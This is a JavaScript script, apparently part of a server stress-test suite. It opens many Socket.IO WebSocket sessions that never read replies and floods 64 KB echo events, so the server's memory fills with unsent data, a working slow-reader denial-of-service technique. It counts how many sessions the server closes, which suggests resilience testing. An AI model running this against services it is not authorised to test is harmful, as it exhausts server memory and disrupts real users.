// Memory: WebSocket sessions that never read. Each keeps sending `echo` events of 64 KB without an ack, so
// the server emits 64 KB back each time, while the attacker's socket is paused: once the kernel's buffers
// are full, everything the server still wants to send waits in its memory.
import { parseArgs, openWebSocket, socketIoConnect, flood, drained, report } from "../lib.mjs";

const o = parseArgs();
const deadline = Date.now() + o.seconds * 1000;
const payload = JSON.stringify("s".repeat(64 * 1024));
const stats = { sessions: 0, echoesSent: 0, mbAsked: 0, closedByServer: 0, errors: {} };
const sessions = [];
await flood(4, deadline, async () => {
  const s = await socketIoConnect(await openWebSocket(o, { answerPings: false }));
  sessions.push(s);
  stats.sessions++;
  s.ws._socket.pause(); // from now on nothing is read: the receive window fills, then the server's buffers do
  while (Date.now() < deadline && !s.closed) {
    s.ws.send(`42["echo",${payload}]`);
    stats.echoesSent++;
    stats.mbAsked += payload.length / 1048576;
    await drained(s.ws, 256 * 1024);
    await new Promise((r) => setTimeout(r, 2));
  }
}, stats);
for (const s of sessions) { if (s.closed) stats.closedByServer++; s.ws.terminate(); }
stats.mbAsked = Math.round(stats.mbAsked);
report("slow-reader", stats);
